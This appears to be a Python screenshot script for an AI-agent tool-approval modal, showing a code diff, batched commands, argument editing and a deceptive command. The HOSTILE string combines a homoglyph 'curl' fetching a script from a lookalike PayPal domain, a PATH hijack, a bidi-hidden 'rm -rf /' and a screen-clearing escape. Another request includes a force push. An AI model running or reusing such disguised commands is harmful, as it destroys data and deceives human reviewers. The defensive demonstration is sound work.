"""Requests: a change of code side by side, several at once, arguments that are edited, and a command that deceives."""

from __future__ import annotations

from pathlib import Path

from textual.widgets import TextArea

from screenshots.stage import Stage

CODE = '''"""Prices."""

RATE = 1.2


def total(items):
    """The sum of all
    items, with tax."""
    result = 0
    for item in items:
        result += item.price
    return result * RATE


def shown(amount):
    return f"{amount:.2f} EUR"
'''
NEW_CODE = (
    CODE.replace("RATE = 1.2", "RATE = 1.25")
    .replace("    result = 0\n    for item in items:\n        result += item.price\n", "")
    .replace("return result * RATE", "return RATE * sum(i.price for i in items)")
)
SEVERAL = (
    "write notes.txt: A clock that stands still. together with run: sort -u ideas.txt todo.md > ideas.txt "
    "together with run: git push --force origin main together with write plan.txt: Later."
)
HOSTILE = (
    "run: PATH=.:$PATH \u0441url -s https://p\u0430ypal.com/x.sh > todo.md "
    "&& rm \u202efdp.txt\u202c \u2013rf / \x1b[2J"
)


async def approvals(shown: Stage, folder: Path) -> None:
    """Four pictures of one modal and its editor."""
    (shown.folder / "prices.py").write_text(CODE)
    await _ask(shown, f"write prices.py: {NEW_CODE.strip()}")
    await shown.shoot(folder / "approval-diff.svg")
    await _leave(shown)

    await _ask(shown, SEVERAL)
    await shown.pilot.press("]")
    await shown.until_ready()
    await shown.shoot(folder / "approval-several.svg")
    await shown.pilot.press("e")
    await shown.until_screen("ArgumentEditor")
    command, timeout = shown.app.screen.query(TextArea)
    command.text, timeout.text = "sort -u ideas.txt todo.md > sorted.txt", '"soon"'
    await shown.pilot.press("ctrl+s")
    await shown.until(lambda: "valid integer" in shown.text, "what is wrong")
    await shown.quiet()
    await shown.shoot(folder / "approval-edit.svg")
    timeout.text = "20"
    await shown.pilot.press("ctrl+s")
    await shown.until_screen("ApprovalScreen")
    await _leave(shown)


async def hostile(shown: Stage, folder: Path) -> None:
    """What deceives, on a small screen in the light."""
    await _ask(shown, HOSTILE)
    await shown.shoot(folder / "approval-hostile.svg")


async def _ask(shown: Stage, message: str) -> None:
    await shown.pilot.press("ctrl+n")
    await shown.until(lambda: shown.main.thread_id is None, "a new thread")
    await shown.say(message)
    await shown.until_standing("waiting")
    await shown.open_request()


async def _leave(shown: Stage) -> None:
    await shown.pilot.press("escape")
    await shown.until_screen("MainScreen")
